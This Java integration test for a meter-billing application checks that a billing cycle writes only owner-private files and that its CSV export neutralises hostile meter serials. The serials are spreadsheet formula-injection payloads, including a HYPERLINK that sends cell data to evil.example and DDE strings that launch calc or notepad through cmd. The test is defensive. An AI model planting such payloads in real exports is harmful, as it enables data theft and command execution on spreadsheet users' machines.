package io.meterbill.jobs;

import static org.assertj.core.api.Assertions.assertThat;

import io.meterbill.readers.csv.CsvRow;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermission;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What a cycle leaves on disk is its owner's alone, and what it writes for a spreadsheet cannot run there:
 * a cycle on the sample data plus an export whose meter serials are spreadsheet formulas, run in this JVM
 * under the usual umask 022.
 */
class PrivateOutputsIT {

    /** Meter serials a hostile export might carry: each starts with a character a spreadsheet evaluates. */
    static final List<String> HOSTILE_SERIALS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
            "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0");

    @TempDir
    static Path tmp;

    static MeterbillHome home;
    static MeterbillHome.Result run;

    @BeforeAll
    static void runACycleWithHostileSerials() throws Exception {
        Path input = Files.createDirectories(tmp.resolve("input"));
        try (Stream<Path> files = Files.list(Path.of("sample-data/reads"))) {
            for (Path file : files.toList()) {
                Files.copy(file, input.resolve(file.getFileName()));
            }
        }
        StringBuilder hostile = new StringBuilder("meter_serial,interval_start,interval_minutes,channel,value,unit\n");
        for (String serial : HOSTILE_SERIALS) {
            for (int quarter = 0; quarter < 4; quarter++) {
                hostile.append('"').append(serial.replace("\"", "\"\"")).append('"')
                        .append(",2025-11-07T10:").append(String.format("%02d", quarter * 15)).append(":00-05:00,15,kwh_del,0.5,kWh\n");
            }
        }
        Files.writeString(input.resolve("reads-hostile.csv"), hostile);
        home = new MeterbillHome(tmp.resolve("home"));
        home.importSampleRegistryAndTariffs();
        run = home.run("cycle", "run", "--cycle", "2025-11", "--input", input.toString());
    }

    /** The test means something only if files are created world-readable by default here. */
    @Test
    void theUmaskIsTheUsualOne() throws Exception {
        Path plain = Files.createFile(tmp.resolve("plain-file"));
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(plain))).isEqualTo("rw-r--r--");
    }

    @Test
    void theCycleCompletesAndRefusesTheHostileMetersAsUnknown() {
        assertThat(run.exitCode()).as(run.toString()).isEqualTo(ExitCode.COMPLETED);
        assertThat(run.out()).containsPattern("UNKNOWN_METER\\s+" + (96 + 4 * HOSTILE_SERIALS.size()));
    }

    /**
     * Every folder and file under the home (database, server binaries, store, outputs, logs) is closed to
     * group and others: folders 0700, files 0600 (programs 0700 or 0500).
     */
    @Test
    void everythingTheCycleCreatedIsPrivate() throws Exception {
        List<String> open = new ArrayList<>();
        List<String> kinds = new ArrayList<>();
        try (Stream<Path> all = Files.walk(home.path())) {
            for (Path path : all.toList()) {
                if (Files.isSymbolicLink(path)) {
                    continue; // a link's own mode means nothing; its target is checked where it lies
                }
                Set<PosixFilePermission> mode = Files.getPosixFilePermissions(path);
                if (mode.stream().anyMatch(p -> p.name().startsWith("GROUP") || p.name().startsWith("OTHERS"))) {
                    open.add(home.path().relativize(path) + " " + PosixFilePermissions.toString(mode));
                }
                String relative = home.path().relativize(path).toString();
                kinds.add(relative.contains("/") ? relative.substring(0, relative.indexOf('/')) : relative);
            }
        }
        assertThat(open).as("files or folders open to group or others").isEmpty();
        // the walk did cover what the cycle writes: database, its server, the store, outputs and logs
        assertThat(kinds).contains("pgdata", "pg-server", "store", "output", "logs");
        assertThat(home.path().resolve("logs/meterbill.log")).exists();
        assertThat(home.path().resolve("output/2025-11/bill-register.csv")).exists();
    }

    /**
     * Opened in a spreadsheet, read-exceptions.csv shows each hostile serial as text: its cell starts with an
     * apostrophe. The database keeps the serial as it came.
     */
    @Test
    void hostileSerialsAreNeutralisedInTheCsvAndKeptInTheDatabase() throws Exception {
        List<String> lines = Files.readAllLines(home.path().resolve("output/2025-11/read-exceptions.csv"));
        List<String> header = CsvRow.split(lines.get(0), ',');
        int raw = header.indexOf("raw_row");
        List<String> hostileCells = new ArrayList<>();
        for (String line : lines.subList(1, lines.size())) {
            List<String> cells = CsvRow.split(line, ',');
            for (String cell : cells) {
                if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 && !cell.matches("[+-]?\\d+(\\.\\d+)?")) {
                    throw new AssertionError("a cell a spreadsheet would evaluate: " + cell + " in " + line);
                }
            }
            if (cells.get(raw).startsWith("'")) {
                hostileCells.add(cells.get(raw));
            }
        }
        assertThat(hostileCells).hasSize(HOSTILE_SERIALS.size());
        for (String serial : HOSTILE_SERIALS) {
            assertThat(hostileCells).anySatisfy(cell -> assertThat(cell).startsWith("'" + serial + " kwh_del 4 x 15 min"));
        }
        List<String> stored = home.query(jdbc -> jdbc.queryForList(
                "select raw_row from read_exception where cycle = '2025-11' and reason = 'UNKNOWN_METER'"
                        + " and raw_row !~ '^M-' order by raw_row", String.class));
        assertThat(stored).hasSize(HOSTILE_SERIALS.size())
                .allSatisfy(row -> assertThat(HOSTILE_SERIALS).anySatisfy(serial -> assertThat(row).startsWith(serial)));
    }
}
